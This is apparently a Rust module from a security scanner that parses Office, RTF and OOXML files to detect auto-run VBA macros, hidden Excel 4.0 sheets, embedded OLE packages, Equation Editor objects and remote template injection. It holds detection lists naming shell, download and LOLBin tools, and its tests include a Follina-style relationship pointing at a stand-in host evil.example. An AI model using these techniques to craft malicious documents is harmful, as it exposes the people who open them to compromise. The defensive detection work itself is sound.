//! Office documents: macros and what else runs when a document opens.
//!
//! - OLE compound files (MS-CFB, read with the `cfb` crate from memory): a VBA
//!   project (a `VBA` storage with its `dir` or `_VBA_PROJECT` stream, as Word's
//!   `Macros`, Excel's `_VBA_PROJECT_CUR` and OOXML's `vbaProject.bin` hold it);
//!   the VBA source (MS-OVBA 2.4.1 decompression) searched for procedures that run
//!   on open and for calls that start programs or download; Excel 4.0 (XLM) macro
//!   sheets in a BIFF8 `Workbook` stream (MS-XLS BoundSheet8 with `dt` = 1) and
//!   its FILEPASS (encrypted workbook) record; password-protected OOXML
//!   (`EncryptionInfo` + `EncryptedPackage`, MS-OFFCRYPTO); Windows Installer
//!   packages (the MSI root CLSID); files embedded as OLE packages
//!   (`\x01Ole10Native`, MS-OLEDS), OOXML packages embedded in OLE (`Package`)
//!   and the attachments of Outlook `.msg` files (MS-OXMSG), handed back to be
//!   inspected like any other file.
//! - RTF (`\\objdata`): embedded OLE1 objects (MS-OLEDS ObjectHeader), their class
//!   (Equation Editor 3.0 objects carry CVE-2017-11882) and their files.
//! - OOXML (ECMA-376) relationship parts: an external attached template or OLE
//!   object fetched from the web when the document opens (template injection,
//!   CVE-2022-30190 "Follina").
//!
//! Hostile input: the whole compound file. `cfb` bounds its sector chains by the
//! file's length; here at most [`MAX_OLE_ENTRIES`] directory entries are looked at,
//! each stream is read through `take()` with the caller's byte cap, BIFF records
//! and OVBA chunks are walked with checked offsets inside the bytes read, VBA
//! source is decompressed to at most [`MAX_VBA_SOURCE`] bytes per module, and at
//! most [`MAX_PACKAGES`] embedded files are handed back. RTF object data is
//! decoded from at most four times `cap` bytes of text into at most `cap` bytes,
//! and OLE1 lengths are believed only as far as the data goes.

use std::io::{Cursor, Read};

/// Directory entries of one compound file looked at.
const MAX_OLE_ENTRIES: usize = 4096;
/// Decompressed VBA source kept per module.
const MAX_VBA_SOURCE: usize = 1024 * 1024;
/// VBA modules decompressed per file.
const MAX_VBA_MODULES: usize = 256;
/// Embedded files handed back per compound file.
const MAX_PACKAGES: usize = 64;
/// An Outlook message's attachment bytes (PidTagAttachDataBinary, MS-OXMSG 2.2.2),
/// lower case as stream names are compared here.
const MSG_ATTACH_DATA: &str = "__substg1.0_37010102";
/// Its long file name (PidTagAttachLongFilename, UTF-16).
const MSG_ATTACH_NAME: &str = "__substg1.0_3707001F";
/// Names of procedures Office runs by itself (lower case).
const AUTOEXEC: &[&str] = &[
    "autoopen",
    "auto_open",
    "autoexec",
    "autoclose",
    "auto_close",
    "document_open",
    "document_close",
    "document_new",
    "documentopen",
    "workbook_open",
    "workbook_activate",
    "workbook_beforeclose",
    "autonew",
    "auto_new",
];
/// Calls that start programs, load code or fetch from the network (lower case).
const SUSPICIOUS: &[&str] = &[
    "wscript.shell",
    "shell.application",
    "shell(",
    "shellexecute",
    "createprocess",
    "urldownloadtofile",
    "powershell",
    "cmd.exe",
    "cmd /c",
    "mshta",
    "regsvr32",
    "rundll32",
    "certutil",
    "bitsadmin",
    "msxml2.xmlhttp",
    "microsoft.xmlhttp",
    "winhttp.winhttprequest",
    "adodb.stream",
    "virtualalloc",
    "rtlmovememory",
    "callbyname",
    "executeexcel4macro",
];

/// Why a compound file could not be read.
#[derive(Debug, thiserror::Error)]
pub(crate) enum OfficeError {
    #[error("not a readable compound file: {0}")]
    Compound(#[from] std::io::Error),
}

/// A file carried inside a document.
#[derive(Debug)]
pub(crate) struct Embedded {
    pub name: Option<String>,
    pub data: Vec<u8>,
}

/// What a compound file holds.
#[derive(Debug, Default)]
pub(crate) struct Ole {
    pub msi: bool,
    pub vba: bool,
    /// Auto-run procedure names found in the VBA source.
    pub autoexec: Vec<&'static str>,
    /// Program-starting or downloading calls found in the VBA source.
    pub suspicious: Vec<&'static str>,
    /// An Excel 4.0 macro sheet and how it is hidden.
    pub xlm: Option<&'static str>,
    pub encrypted: Option<&'static str>,
    /// An Equation Editor 3.0 object (its `Equation Native` stream).
    pub equation: bool,
    pub embedded: Vec<Embedded>,
}

fn read_capped(r: impl Read, cap: usize) -> Vec<u8> {
    let mut buf = Vec::new();
    // A short or broken stream still gives what was read before the error.
    let _ = r.take(cap as u64).read_to_end(&mut buf);
    buf
}

/// Opens a compound file from memory; `cap` bounds the bytes read per stream.
pub(crate) fn inspect_ole(data: &[u8], cap: usize) -> Result<Ole, OfficeError> {
    let mut comp = cfb::CompoundFile::open(Cursor::new(data))?;
    let mut ole = Ole {
        msi: comp.root_entry().clsid().to_string() == "000c1084-0000-0000-c000-000000000046",
        ..Ole::default()
    };
    let mut streams = Vec::new();
    for entry in comp.walk().take(MAX_OLE_ENTRIES) {
        if !entry.is_stream() {
            continue;
        }
        let name = entry.name().to_ascii_lowercase();
        let parent = entry
            .path()
            .parent()
            .and_then(|p| p.file_name())
            .map(|p| p.to_string_lossy().to_ascii_lowercase());
        if parent.as_deref() == Some("vba") && (name == "dir" || name == "_vba_project") {
            ole.vba = true;
        }
        if name == "equation native" {
            ole.equation = true;
        }
        streams.push((entry.path().to_path_buf(), name, parent));
    }
    if streams.iter().any(|(_, n, _)| n == "encryptedpackage")
        && streams.iter().any(|(_, n, _)| n == "encryptioninfo")
    {
        ole.encrypted = Some("password-protected Office document");
    }
    let mut modules = 0;
    for (path, name, parent) in &streams {
        let wanted = match name.as_str() {
            "workbook" | "book" => true,
            "\u{1}ole10native" | "package" | MSG_ATTACH_DATA => ole.embedded.len() < MAX_PACKAGES,
            "dir" | "_vba_project" | "project" | "projectwm" => false,
            n if n.starts_with("__srp_") => false,
            _ => ole.vba && parent.as_deref() == Some("vba") && modules < MAX_VBA_MODULES,
        };
        if !wanted {
            continue;
        }
        let Ok(stream) = comp.open_stream(path) else {
            continue;
        };
        let bytes = read_capped(stream, cap);
        match name.as_str() {
            "workbook" | "book" => {
                let (xlm, encrypted) = biff_globals(&bytes);
                ole.xlm = ole.xlm.or(xlm);
                if encrypted {
                    ole.encrypted = Some("password-protected Excel workbook");
                }
            }
            "\u{1}ole10native" => ole.embedded.extend(ole10native(&bytes)),
            "package" => ole.embedded.push(Embedded {
                name: None,
                data: bytes,
            }),
            MSG_ATTACH_DATA => {
                // The attachment's long file name is a sibling Unicode stream.
                let name = path.parent().and_then(|storage| {
                    let mut stream = comp.open_stream(storage.join(MSG_ATTACH_NAME)).ok()?;
                    let raw = read_capped(&mut stream, 2048);
                    let units: Vec<u16> = raw
                        .chunks_exact(2)
                        .map(|c| u16::from_le_bytes([c[0], c[1]]))
                        .collect();
                    Some(
                        String::from_utf16_lossy(&units)
                            .trim_end_matches('\0')
                            .to_string(),
                    )
                });
                ole.embedded.push(Embedded { name, data: bytes });
            }
            _ => {
                modules += 1;
                if let Some(source) = vba_source(&bytes) {
                    scan_source(&source, &mut ole);
                }
            }
        }
    }
    Ok(ole)
}

fn scan_source(source: &[u8], ole: &mut Ole) {
    let lower = source.to_ascii_lowercase();
    for word in AUTOEXEC {
        if !ole.autoexec.contains(word) && memchr::memmem::find(&lower, word.as_bytes()).is_some() {
            ole.autoexec.push(word);
        }
    }
    for word in SUSPICIOUS {
        if !ole.suspicious.contains(word) && memchr::memmem::find(&lower, word.as_bytes()).is_some()
        {
            ole.suspicious.push(word);
        }
    }
}

fn u16_at(data: &[u8], offset: usize) -> Option<u16> {
    let b = data.get(offset..offset.checked_add(2)?)?;
    Some(u16::from_le_bytes([b[0], b[1]]))
}

fn u32_at(data: &[u8], offset: usize) -> Option<u32> {
    let b = data.get(offset..offset.checked_add(4)?)?;
    Some(u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
}

/// Walks the workbook globals of a BIFF8 stream (up to its EOF record): an
/// Excel 4.0 macro sheet (BoundSheet8 `dt` = 1, with its visibility) and
/// whether a FILEPASS record says the rest is encrypted.
fn biff_globals(stream: &[u8]) -> (Option<&'static str>, bool) {
    const BOUNDSHEET: u16 = 0x0085;
    const FILEPASS: u16 = 0x002f;
    const EOF: u16 = 0x000a;
    let mut xlm = None;
    let mut offset = 0usize;
    while let (Some(kind), Some(size)) = (u16_at(stream, offset), u16_at(stream, offset + 2)) {
        let body_start = offset + 4;
        let Some(body) = stream.get(body_start..body_start + usize::from(size)) else {
            break;
        };
        match kind {
            FILEPASS => return (xlm, true),
            EOF => break,
            BOUNDSHEET if body.len() >= 6 && body[5] == 0x01 => {
                let state = match body[4] & 0x03 {
                    0 => "visible",
                    1 => "hidden",
                    _ => "very hidden",
                };
                // A hidden sheet is the stronger signal: keep it over a visible one.
                if xlm.is_none() || state != "visible" {
                    xlm = Some(state);
                }
            }
            _ => {}
        }
        offset = body_start + usize::from(size);
    }
    (xlm, false)
}

/// An OLE package (MS-OLEDS 2.3.6 plus the Packager layout): total size, a
/// type word, the label (file name), the original path, then after a temporary
/// path the file's bytes.
fn ole10native(stream: &[u8]) -> Option<Embedded> {
    fn cstr(data: &[u8], at: usize) -> Option<(&[u8], usize)> {
        let rest = data.get(at..)?;
        let end = memchr::memchr(0, rest)?;
        Some((&rest[..end], at + end + 1))
    }
    let (label, next) = cstr(stream, 6)?;
    let (original, next) = cstr(stream, next)?;
    let temp_len = u32_at(stream, next + 4)? as usize;
    let size_at = next.checked_add(8)?.checked_add(temp_len)?;
    let size = u32_at(stream, size_at)? as usize;
    let start = size_at + 4;
    // The declared size is believed only as far as the stream really goes.
    let end = start.saturating_add(size).min(stream.len());
    let data = stream.get(start..end)?.to_vec();
    let name = if label.contains(&b'.') {
        label
    } else {
        original
    };
    Some(Embedded {
        name: Some(String::from_utf8_lossy(name).into_owned()),
        data,
    })
}

/// The VBA source of a module stream: its compressed part starts with the
/// `Attribute VB_Name` line, whose first eight letters are always literals.
fn vba_source(stream: &[u8]) -> Option<Vec<u8>> {
    let at = memchr::memmem::find(stream, b"\x00Attribut")?;
    let start = at.checked_sub(3)?;
    decompress_ovba(&stream[start..], MAX_VBA_SOURCE)
}

/// MS-OVBA 2.4.1 decompression of a CompressedContainer, to at most `limit` bytes.
pub(crate) fn decompress_ovba(data: &[u8], limit: usize) -> Option<Vec<u8>> {
    if data.first() != Some(&1) {
        return None;
    }
    let mut out: Vec<u8> = Vec::new();
    let mut pos = 1usize;
    while pos + 2 <= data.len() && out.len() < limit {
        let header = u16_at(data, pos)?;
        let chunk_len = usize::from(header & 0x0fff) + 3;
        let compressed = header & 0x8000 != 0;
        let chunk_end = (pos + chunk_len).min(data.len());
        let mut p = pos + 2;
        let chunk_start = out.len();
        if !compressed {
            let end = (p + 4096).min(data.len());
            out.extend_from_slice(&data[p..end]);
            pos = end;
            continue;
        }
        while p < chunk_end && out.len() < limit {
            let flags = data[p];
            p += 1;
            for bit in 0..8 {
                if p >= chunk_end || out.len() >= limit {
                    break;
                }
                if flags & (1 << bit) == 0 {
                    out.push(data[p]);
                    p += 1;
                    continue;
                }
                let token = u16_at(data, p)?;
                p += 2;
                let done = out.len() - chunk_start;
                let mut bits = 4u32;
                while bits < 12 && (1usize << bits) < done {
                    bits += 1;
                }
                let length_mask = 0xffffu16 >> bits;
                let length = usize::from(token & length_mask) + 3;
                let offset = usize::from(token >> (16 - bits)) + 1;
                // A copy from before the chunk is corrupt: keep what came before it.
                let Some(from) = out.len().checked_sub(offset).filter(|&f| f >= chunk_start) else {
                    return Some(out);
                };
                for i in 0..length.min(limit.saturating_sub(out.len())) {
                    let b = out[from + i];
                    out.push(b);
                }
            }
        }
        pos = chunk_end;
    }
    out.truncate(limit);
    Some(out)
}

/// Objects embedded in an RTF document (`{\\*\\objdata <hex>}` holding an OLE1
/// ObjectHeader, MS-OLEDS 2.2.4): each object's class name and its file, which for
/// the `Package` class is the packaged file with its name, else the native data
/// (often a whole compound file). At most [`MAX_PACKAGES`] objects, each decoded
/// to at most `cap` bytes.
pub(crate) fn rtf_objects(rtf: &[u8], cap: usize) -> Vec<(String, Embedded)> {
    let mut out = Vec::new();
    for at in memchr::memmem::find_iter(rtf, b"\\objdata").take(MAX_PACKAGES) {
        let bytes = rtf_hex(&rtf[at + b"\\objdata".len()..], cap);
        let Some(object) = ole1_object(&bytes) else {
            continue;
        };
        out.push(object);
    }
    out
}

/// Hex digits up to the group's end, skipping white space, nested braces and
/// control words that obfuscators scatter through the data.
fn rtf_hex(rest: &[u8], cap: usize) -> Vec<u8> {
    let mut out = Vec::new();
    let mut high: Option<u8> = None;
    let mut depth = 0usize;
    let mut i = 0;
    let limit = rest.len().min(cap.saturating_mul(4));
    while i < limit && out.len() < cap {
        let b = rest[i];
        i += 1;
        match b {
            b'{' => depth += 1,
            b'}' if depth == 0 => break,
            b'}' => depth -= 1,
            b'\\' => {
                while i < limit && rest[i].is_ascii_alphanumeric() {
                    i += 1;
                }
            }
            _ => {
                let Some(nibble) = char::from(b).to_digit(16) else {
                    continue;
                };
                let nibble = nibble as u8;
                match high.take() {
                    Some(h) => out.push(h << 4 | nibble),
                    None => high = Some(nibble),
                }
            }
        }
    }
    out
}

/// An OLE1 ObjectHeader: version, format, class, topic and item names (each a
/// length-prefixed string), then the native data's size and bytes.
fn ole1_object(data: &[u8]) -> Option<(String, Embedded)> {
    let mut at = 8usize;
    let mut names = Vec::new();
    for _ in 0..3 {
        let len = u32_at(data, at)? as usize;
        let text = data.get(at + 4..at.checked_add(4)?.checked_add(len)?)?;
        names.push(
            String::from_utf8_lossy(text)
                .trim_end_matches('\0')
                .to_string(),
        );
        at += 4 + len;
    }
    let class = names.swap_remove(0);
    if class == "Package" {
        if let Some(packaged) = data.get(at..).and_then(ole10native) {
            return Some((class, packaged));
        }
    }
    let size = u32_at(data, at)? as usize;
    let start = at + 4;
    let end = start.saturating_add(size).min(data.len());
    let native = data.get(start..end)?.to_vec();
    Some((
        class,
        Embedded {
            name: None,
            data: native,
        },
    ))
}

/// An OOXML relationship part that makes the document fetch something from the
/// web as it opens: what and from where.
pub(crate) fn external_relationship(rels: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(&rels[..rels.len().min(1024 * 1024)]);
    for rel in text.split("<Relationship ").skip(1).take(4096) {
        let rel = rel.split('>').next().unwrap_or("");
        let attr = |name: &str| {
            let at = rel.find(&format!("{name}=\""))? + name.len() + 2;
            rel.get(at..)?.split('"').next()
        };
        if attr("TargetMode") != Some("External") {
            continue;
        }
        let (Some(kind), Some(target)) = (attr("Type"), attr("Target")) else {
            continue;
        };
        let kind = kind.rsplit('/').next().unwrap_or(kind);
        let target_lower = target.to_ascii_lowercase();
        let remote = [
            "http:",
            "https:",
            "\\\\",
            "mhtml:",
            "ms-msdt:",
            "search-ms:",
        ]
        .iter()
        .any(|p| target_lower.starts_with(p));
        let risky = matches!(
            kind,
            "attachedTemplate" | "oleObject" | "frame" | "subDocument"
        );
        if risky && remote {
            let shown: String = target.chars().take(100).collect();
            return Some(format!("{kind} from {shown}"));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    /// MS-OVBA 3.2: the example "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
    /// compresses to this container.
    #[test]
    fn ovba_decompression_matches_the_specification_example() {
        let compressed = [
            0x01, 0x2f, 0xb0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66,
            0x00, 0x70, 0x61, 0x67, 0x68, 0x69, 0x6a, 0x01, 0x38, 0x08, 0x61, 0x6b, 0x6c, 0x00,
            0x30, 0x6d, 0x6e, 0x6f, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74,
            0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7a, 0x00, 0x3c,
        ];
        let out = decompress_ovba(&compressed, 1 << 20).unwrap();
        assert_eq!(
            out,
            b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa".to_vec()
        );
    }

    #[test]
    fn hostile_ovba_stays_bounded() {
        // A copy token pointing before the chunk, and a run far past the limit.
        assert!(decompress_ovba(&[0x01, 0x02, 0xb0, 0x01, 0xff, 0xff], 100)
            .is_some_and(|o| o.is_empty()));
        let mut many = vec![0x01, 0xff, 0xbf, 0x00, b'a'];
        for _ in 0..600 {
            many.extend_from_slice(&[0xff, 0xff, 0x0f, 0xff, 0x0f, 0xff, 0x0f, 0xff, 0x0f]);
            many.extend_from_slice(&[0xff, 0x0f, 0xff, 0x0f, 0xff, 0x0f, 0xff, 0x0f]);
        }
        let out = decompress_ovba(&many, 1000).unwrap();
        assert!(out.len() <= 1000);
        assert!(decompress_ovba(b"not ovba", 10).is_none());
    }

    #[test]
    fn biff_macro_sheets_and_encryption() {
        fn rec(kind: u16, body: &[u8]) -> Vec<u8> {
            let mut v = kind.to_le_bytes().to_vec();
            v.extend_from_slice(&(body.len() as u16).to_le_bytes());
            v.extend_from_slice(body);
            v
        }
        let mut stream = rec(0x0809, &[0; 16]);
        stream.extend(rec(0x0085, &[0, 0, 0, 0, 0, 0, 1, 0, b'S']));
        stream.extend(rec(0x0085, &[0, 0, 0, 0, 2, 1, 1, 0, b'M']));
        stream.extend(rec(0x000a, &[]));
        assert_eq!(biff_globals(&stream), (Some("very hidden"), false));
        let mut enc = rec(0x0809, &[0; 16]);
        enc.extend(rec(0x002f, &[0; 6]));
        assert_eq!(biff_globals(&enc), (None, true));
        // Truncated records end the walk without reading past the stream.
        assert_eq!(biff_globals(&[0x85, 0x00, 0xff, 0xff, 0x00]), (None, false));
    }

    #[test]
    fn ole_packages_give_their_file() {
        let mut s = 0u32.to_le_bytes().to_vec();
        s.extend_from_slice(&2u16.to_le_bytes());
        s.extend_from_slice(b"payload.js\0C:\\tmp\\payload.js\0");
        s.extend_from_slice(&[0, 0, 3, 0]);
        s.extend_from_slice(&5u32.to_le_bytes());
        s.extend_from_slice(b"C:\\x\0");
        // The declared size is larger than what follows.
        s.extend_from_slice(&1000u32.to_le_bytes());
        s.extend_from_slice(b"WScript.Echo(1)");
        let e = ole10native(&s).unwrap();
        assert_eq!(e.name.as_deref(), Some("payload.js"));
        assert_eq!(e.data, b"WScript.Echo(1)");
    }

    #[test]
    fn compound_files_with_a_vba_project_and_an_msi_clsid() {
        let mut comp = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        comp.create_storage("/Macros").unwrap();
        comp.create_storage("/Macros/VBA").unwrap();
        comp.create_stream("/Macros/VBA/dir")
            .unwrap()
            .write_all(b"\x01\x00")
            .unwrap();
        comp.create_stream("/WordDocument")
            .unwrap()
            .write_all(&[0; 64])
            .unwrap();
        let bytes = comp.into_inner().into_inner();
        let ole = inspect_ole(&bytes, 1 << 20).unwrap();
        assert!(ole.vba && !ole.msi);

        // The root directory entry's CLSID (offset 0x50) set to the MSI one.
        let comp = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        let mut bytes = comp.into_inner().into_inner();
        let dir_sector = u32_at(&bytes, 0x30).unwrap() as usize;
        let sector_len = 1usize << u16_at(&bytes, 0x1e).unwrap();
        let at = (dir_sector + 1) * sector_len + 0x50;
        bytes[at..at + 16].copy_from_slice(&[
            0x84, 0x10, 0x0c, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
        ]);
        let ole = inspect_ole(&bytes, 1 << 20).unwrap();
        assert!(ole.msi && !ole.vba);
        assert!(inspect_ole(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 broken", 1 << 20).is_err());
    }

    #[test]
    fn rtf_objects_are_decoded_through_obfuscation() {
        let mut object = vec![0x01, 0x05, 0, 0, 0x02, 0, 0, 0];
        for name in [&b"Equation.3\0"[..], b"\0", b"\0"] {
            object.extend_from_slice(&(name.len() as u32).to_le_bytes());
            object.extend_from_slice(name);
        }
        object.extend_from_slice(&4u32.to_le_bytes());
        object.extend_from_slice(b"\x1c\x00\x00\x00");
        let hex: String = object.iter().map(|b| format!("{b:02x}")).collect();
        let (a, b) = hex.split_at(10);
        let rtf =
            format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {a}\r\n{{\\junk}}\\par {b}}}}}}}");
        let objects = rtf_objects(rtf.as_bytes(), 1 << 20);
        assert_eq!(objects.len(), 1);
        assert_eq!(objects[0].0, "Equation.3");
        assert_eq!(objects[0].1.data, b"\x1c\x00\x00\x00");
        assert!(rtf_objects(b"{\\rtf1 \\objdata zz}", 1 << 20).is_empty());
    }

    #[test]
    fn external_templates_and_objects_are_found_but_hyperlinks_are_not() {
        let rels = br#"<?xml version="1.0"?><Relationships xmlns="x">
            <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/>
            <Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Templates\Normal.dotm" TargetMode="External"/>
            </Relationships>"#;
        assert_eq!(external_relationship(rels), None);
        let rels = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/></Relationships>"#;
        assert_eq!(
            external_relationship(rels).as_deref(),
            Some(
                "oleObject from mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"
            )
        );
    }
}
